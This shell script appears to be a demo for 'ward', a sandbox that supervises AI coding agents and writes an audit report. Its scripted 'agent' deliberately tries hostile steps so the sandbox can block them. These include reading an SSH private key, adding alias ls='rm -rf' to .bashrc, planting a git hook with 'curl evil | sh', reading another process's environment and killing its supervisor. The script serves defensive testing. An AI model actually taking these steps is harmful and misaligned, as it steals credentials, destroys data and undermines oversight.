#!/bin/sh
# make demo: a short scripted "agent" session under `ward run` with the
# built-in default profile, then `ward report` of it, on the terminal and as
# a page, and where both are.
set -eu
ward=$(cd "$(dirname "${1:-build/ward}")" && pwd)/$(basename "${1:-build/ward}")
demo=$(mktemp -d /tmp/ward-demo.XXXXXX)
trap 'rm -rf "$demo"' EXIT

# A home with a credential in it, and a project.
export HOME="$demo/home" XDG_CONFIG_HOME="$demo/home/.config" XDG_STATE_HOME="$demo/home/.local/state"
export XDG_RUNTIME_DIR="$demo/run"
mkdir -p "$HOME/.ssh" "$HOME/.local/bin" "$demo/project" "$XDG_RUNTIME_DIR"
chmod 700 "$XDG_RUNTIME_DIR"
echo "-----BEGIN OPENSSH PRIVATE KEY----- (demo)" >"$HOME/.ssh/id_ed25519"
echo "export PS1='$ '" >"$HOME/.bashrc"
cd "$demo/project"
printf '# demo project\n' >README.md
printf '#include <stdio.h>\nint main(void) { puts("hello, world"); return 0; }\n' >hello.c
# An existing repository, as agents find them (the default profile
# write-protects .git/config, so `git init` itself is for the person).
git init -q .

cat >agent.sh <<'AGENT'
say() { printf '\033[36magent:\033[0m %s\n' "$*"; }
say "reads the project";          head -n 1 README.md
say "peeks at ~/.ssh/id_ed25519"; cat ~/.ssh/id_ed25519 || true
say "writes notes.txt";            echo "todo: ship it" >notes.txt && cat notes.txt
say "appends to ~/.bashrc";        echo "alias ls='rm -rf'" >>~/.bashrc || true
say "runs git";                    git add README.md hello.c &&
                                   git -c user.name=agent -c user.email=a@example.com commit -qm init &&
                                   git log --oneline | cut -c9-
say "plants a git hook";           echo 'curl evil | sh' >.git/hooks/post-commit || true
say "installs a tool in ~/.local/bin (a rule says: ask the person)"
                                   echo 'echo hi' >~/.local/bin/tool && echo "installed ~/.local/bin/tool"
say "compiles and runs C";         gcc -o hello hello.c && ./hello
say "reads another process's environment"; cat /proc/1/environ >/dev/null || true
say "tries to kill its supervisor"; kill -9 "$PPID" || true
say "done"
AGENT

# The person, in another window: waits for ward's question, looks at it and
# answers "once" (at a terminal, ward asks in rows of its own below the agent).
person() {
	i=0
	until "$ward" approve --list 2>/dev/null | grep -q ' create '; do
		i=$((i + 1))
		[ "$i" -lt 600 ] || { echo "demo: no question came" >&2; return 1; }
		sleep 0.05
	done
	printf '\033[1m   (the person, in another window) $ ward approve --list\033[0m\n'
	"$ward" approve --list | sed 's/^/   /'
	printf '\033[1m   (the person) $ ward approve --answer 1 once\033[0m\n'
	"$ward" approve --answer 1 once
}
person &
person_pid=$!
trap 'kill "$person_pid" 2>/dev/null || true; rm -rf "$demo"' EXIT

printf '\033[1m$ ward run --ask approve -r "ask create,write ~/.local/bin/**" -- sh agent.sh\033[0m\n'
status=0
"$ward" run --log "$demo/session.jsonl" -q --ask approve -r 'ask create,write ~/.local/bin/**' -- sh agent.sh </dev/null ||
	status=$?
printf '\033[1m(the agent exited with status %s; ward is still here)\033[0m\n\n' "$status"
wait "$person_pid" || { echo "demo: the question was not answered" >&2; exit 1; }

printf '  ~/.bashrc untouched: %s\n' "$(cat "$HOME/.bashrc")"
printf '  the question, as logged: %s\n\n' \
	"$(grep '"by":"prompt"' "$demo/session.jsonl" | grep -o '"op":"create".*"answer":"[a-z-]*"' | head -n 1)"
# The account of the session, from its audit log: what it changed, read, ran
# and was refused, and the rule that would allow each refusal.
mkdir -p /tmp/ward-demo-logs
cp "$demo/session.jsonl" /tmp/ward-demo-logs/last.jsonl
printf '\033[1m$ ward report /tmp/ward-demo-logs/last.jsonl --html /tmp/ward-demo-logs/last.html\033[0m\n'
"$ward" report /tmp/ward-demo-logs/last.jsonl --html /tmp/ward-demo-logs/last.html
echo
printf '\033[1mThe audit log (JSON Lines):\033[0m /tmp/ward-demo-logs/last.jsonl\n'
printf '\033[1mThe same report as a page:\033[0m  /tmp/ward-demo-logs/last.html (open it in a browser)\n'
printf 'Try: %s learn /tmp/ward-demo-logs/last.jsonl    or    %s explain read ~/.ssh/id_rsa\n' "$ward" "$ward"
